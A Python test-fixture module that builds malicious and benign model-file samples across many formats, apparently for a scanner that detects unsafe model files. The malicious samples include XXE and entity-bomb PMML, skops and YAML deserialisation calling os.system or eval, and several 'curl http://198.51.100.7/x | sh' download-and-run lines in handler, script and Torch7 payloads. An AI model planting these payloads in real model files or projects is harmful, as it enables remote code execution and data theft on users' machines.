"""Formats that are text, or archives around text, and formats of other languages."""

from __future__ import annotations

import json
import struct
from collections.abc import Iterator

from model_files.archives import gzipped, tarred, zipped
from model_files.base import OTHER, Case, honest, hostile
from model_files.opcodes import ATTACK
from model_files.tensors import CHAT, ESCAPES, TOOLS

_PMML = '<?xml version="1.0"?>{doctype}<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/>{body}</PMML>'
_TREE = '<DataDictionary><DataField name="x" optype="continuous" dataType="double"/></DataDictionary><TreeModel functionName="classification"/>'


def _pmml() -> Iterator[Case]:
    outside = '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    bomb = (
        '<!DOCTYPE PMML [<!ENTITY a "aaaaaaaaaa">'
        + "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9))
        + "]>"
    )
    parameter = '<!DOCTYPE PMML [<!ENTITY % p SYSTEM "http://198.51.100.7/x.dtd"> %p;]>'
    script = '<Extension name="onLoad"><script type="text/javascript">java.lang.Runtime.getRuntime().exec("id")</script></Extension>'
    python = '<Extension extender="python" value="import os; os.system(\'id\')"/>'
    for title, doctype, body in (
        ("entity", outside, "&x;"),
        ("bomb", bomb, "&j;"),
        ("parameter", parameter, _TREE),
        ("script", "", script + _TREE),
        ("python", "", python + _TREE),
        ("include", "", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>' + _TREE),
    ):
        yield hostile("pmml", f"{title}.pmml", _PMML.format(doctype=doctype, body=body).encode(), OTHER)
    yield hostile("pmml", "sixteen-bits.pmml", _PMML.format(doctype=outside, body="&x;").encode("utf-16"), OTHER)
    yield honest("pmml", "tree.pmml", _PMML.format(doctype="", body=_TREE).encode(), OTHER)
    extension = '<Extension name="numTrees" value="10"/>'
    yield honest("pmml", "extended.pmml", _PMML.format(doctype="", body=extension + _TREE).encode(), OTHER)


def _skops() -> Iterator[Case]:
    def schema(root: dict[str, object]) -> bytes:
        return zipped({"schema.json": json.dumps({**root, "protocol": 2, "_skops_version": "0.11.0"}).encode()})

    def node(loader: str, module: str, name: str, content: object = None) -> dict[str, object]:
        return {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 1, "content": content}

    bad = {
        "function-system": node("FunctionNode", "os", "system", {"module_path": "os", "function": "system"}),
        "function-eval": node("FunctionNode", "builtins", "eval", {"module_path": "builtins", "function": "eval"}),
        "type": node("TypeNode", "subprocess", "Popen"),
        "object": node("ObjectNode", "acme.x", "Runner", {}),
        "method": node("MethodNode", "builtins", "method", {"func": "system", "obj": node("ObjectNode", "os", "os")}),
        "operator": {
            **node("OperatorFuncNode", "operator", "methodcaller"),
            "attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": []},
        },
        "operator-foreign": node("OperatorFuncNode", "os", "system"),
        "reduce": node(
            "ReduceNode", "sklearn.linear_model._sgd_fast", "Log", {"reduce": node("FunctionNode", "os", "system")}
        ),
        "partial": node("PartialNode", "functools", "partial", {"func": node("FunctionNode", "os", "system")}),
        "nested": node("DictNode", "builtins", "dict", {"a": node("FunctionNode", "posix", "system")}),
    }
    for title, root in bad.items():
        yield hostile("skops", f"{title}.skops", schema(root), OTHER)
    yield hostile(
        "skops",
        "pickle-member.skops",
        zipped(
            {
                "schema.json": b'{"__class__":"dict","__module__":"builtins","__loader__":"DictNode","content":{}}',
                "1.pkl": ATTACK,
            }
        ),
        OTHER,
    )
    good = node(
        "ObjectNode", "sklearn.linear_model._logistic", "LogisticRegression", node("DictNode", "builtins", "dict", {})
    )
    yield honest("skops", "regression.skops", schema(good), OTHER)
    yield honest(
        "skops",
        "plain.skops",
        schema(
            node(
                "DictNode",
                "builtins",
                "dict",
                {"a": {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": '"x"'}},
            )
        ),
        OTHER,
    )


def _archives() -> Iterator[Case]:
    nemo = "model:\n  encoder:\n    _target_: {}\n    command: id\n"
    for title, target in (
        ("system", "os.system"),
        ("popen", "subprocess.Popen"),
        ("eval", "builtins.eval"),
        ("foreign", "acme.backdoor.Encoder"),
    ):
        yield hostile(
            "nemo",
            f"{title}.nemo",
            tarred(("model_config.yaml", nemo.format(target).encode()), ("model_weights.ckpt", b"\x80\x02}.")),
            OTHER,
        )
    yield hostile(
        "nemo", "packed.nemo", gzipped(tarred(("model_config.yaml", nemo.format("os.system").encode()))), OTHER
    )
    yield hostile(
        "nemo", "weights.nemo", tarred(("model_config.yaml", b"a: 1\n"), ("model_weights.ckpt", ATTACK)), OTHER
    )
    good = nemo.format("nemo.collections.asr.modules.ConformerEncoder").replace("command: id", "d_model: 256")
    yield honest(
        "nemo", "plain.nemo", tarred(("model_config.yaml", good.encode()), ("model_weights.ckpt", b"\x80\x02}.")), OTHER
    )
    manifest = {
        "model": {"modelName": "m", "handler": "handler.py", "serializedFile": "model.pt"},
        "archiverVersion": "0.9",
    }
    bad = b"import os\nclass H:\n    def initialize(self, c):\n        os.system('curl http://198.51.100.7/x | sh')\n"
    yield hostile(
        "torchserve",
        "handler.mar",
        zipped({"MAR-INF/MANIFEST.json": json.dumps(manifest).encode(), "handler.py": bad}),
        OTHER,
    )
    yield hostile(
        "torchserve",
        "pickle.mar",
        zipped({"MAR-INF/MANIFEST.json": json.dumps(manifest).encode(), "model.pt": ATTACK}),
        OTHER,
    )
    away = {**manifest, "model": {**manifest["model"], "handler": "../../../evil.py"}}
    yield hostile("torchserve", "escapes.mar", zipped({"MAR-INF/MANIFEST.json": json.dumps(away).encode()}), OTHER)
    needs = {
        **manifest,
        "model": {**manifest["model"], "handler": "image_classifier", "requirementsFile": "requirements.txt"},
    }
    yield hostile(
        "torchserve",
        "requirements.mar",
        zipped(
            {
                "MAR-INF/MANIFEST.json": json.dumps(needs).encode(),
                "requirements.txt": b"--extra-index-url http://198.51.100.7/simple\nacme-helper\n",
            }
        ),
        OTHER,
    )
    known = {**manifest, "model": {**manifest["model"], "handler": "image_classifier"}}
    yield honest(
        "torchserve",
        "classifier.mar",
        zipped({"MAR-INF/MANIFEST.json": json.dumps(known).encode(), "model.pt": b"\x80\x02}."}),
        OTHER,
    )


def _programs() -> Iterator[Case]:
    yield hostile(
        "program", "elf.bin", b"\x7fELF\2\1\1\0" + bytes(8) + struct.pack("<HHI", 2, 62, 1) + bytes(400), OTHER
    )
    header = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HH", 0x8664, 1) + bytes(300)
    yield hostile("program", "windows.safetensors", header, OTHER)
    yield hostile("program", "windows.pt", header, OTHER)
    yield hostile("program", "mach.onnx", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(300), OTHER)
    yield hostile("program", "script.pt", b"#!/bin/sh\ncurl http://198.51.100.7/x | sh\n", OTHER)
    yield hostile("program", "script.bin", b"#!/usr/bin/env python3\nimport os\nos.system('id')\n", OTHER)
    ape = b"MZqFpD='\n\n" + b"\0" * 60 + b'\njartsr=\'\n#!/bin/sh\nexec "$0"\n' + b"\0" * 4000
    yield hostile("program", "model.llamafile", ape, OTHER)


def _other_languages() -> Iterator[Case]:
    calls = b"X\n" + struct.pack(">III", 2, 0x00040300, 0x00020300)
    symbol = struct.pack(">III", 1, 0x00040009, 6) + b"system"
    yield hostile("r data", "promise.rds", gzipped(calls + struct.pack(">I", 5) + symbol), OTHER)
    yield hostile("r data", "call.rds", gzipped(calls + struct.pack(">I", 6) + symbol + struct.pack(">I", 254)), OTHER)
    numbers = struct.pack(">II", 14, 2) + struct.pack(">2d", 1.0, 2.0)
    yield honest("r data", "numbers.rds", gzipped(calls + numbers), OTHER)
    yield hostile(
        "torch 7",
        "os-execute.t7",
        struct.pack("<i", 4)
        + struct.pack("<ii", 1, 3)
        + b"V 1"
        + struct.pack("<i", 17)
        + b"torch.FloatTensor"
        + struct.pack("<i", 45)
        + b"os.execute('curl http://198.51.100.7/x | sh')",
        OTHER,
    )


def _boosters() -> Iterator[Case]:
    learner = {
        "learner": {
            "attributes": {},
            "feature_names": ["a"],
            "gradient_booster": {"model": {"trees": []}, "name": "gbtree"},
            "objective": {"name": "reg:squarederror"},
        },
        "version": [2, 1, 0],
    }
    yield honest("boosters", "xgboost.json", json.dumps(learner).encode(), OTHER)
    yield hostile("boosters", "xgboost.ubj", ATTACK, OTHER)
    yield hostile("boosters", "xgboost.bst", ATTACK, OTHER)
    yield hostile("boosters", "catboost.cbm", ATTACK, OTHER)
    light = "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nmax_feature_idx=1\nobjective=binary sigmoid:1\nfeature_names=a b\n\nTree=0\nnum_leaves=1\n\nend of trees\n"
    yield honest("boosters", "lightgbm.txt", light.encode(), OTHER)
    yield hostile("boosters", "lightgbm.model", ATTACK, OTHER)
    yield honest("boosters", "catboost.cbm", b"CBM1" + struct.pack("<I", 64) + bytes(64), OTHER)
    message = b"\x81\xa6params\xc7" + bytes([len(ATTACK) % 256]) + b"\x01" + ATTACK
    yield hostile("msgpack", "flax.msgpack", message, OTHER)
    yield honest("msgpack", "flax-plain.msgpack", b"\x81\xa6params\x81\xa6kernel\xc7\x10\x01" + bytes(16), OTHER)


def _templates() -> Iterator[Case]:
    for title, template in ESCAPES.items():
        yield hostile("chat template", f"{title}.jinja", template.encode(), OTHER)
    yield honest("chat template", "chat.jinja", CHAT.encode(), OTHER)
    yield honest("chat template", "tools.jinja", TOOLS.encode(), OTHER)


def _yaml() -> Iterator[Case]:
    bad = {
        "apply": "model: !!python/object/apply:os.system ['id']\n",
        "new": "model: !!python/object/new:subprocess.Popen [['id']]\n",
        "name": "loader: !!python/name:os.system\n",
        "module": "x: !!python/module:acme.backdoor\n",
        "target": "callbacks:\n  - _target_: os.system\n    command: id\n",
        "target-eval": "a: {_target_: builtins.eval, _args_: ['1']}\n",
        "tag-full": 'a: !<tag:yaml.org,2002:python/object/apply:os.system> ["id"]\n',
        "directive": "%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system [id]\n",
    }
    for title, text in bad.items():
        yield hostile("yaml", f"{title}.yaml", text.encode(), OTHER)
    yield honest("yaml", "training.yaml", b"model: {hidden: 256}\noptimizer:\n  lr: 0.1\n", OTHER)
    yield honest("yaml", "hydra.yaml", b"model:\n  _target_: torch.nn.Linear\n  in_features: 4\n", OTHER)


def cases() -> Iterator[Case]:
    for group in (_pmml, _skops, _archives, _programs, _other_languages, _boosters, _templates, _yaml):
        yield from group()
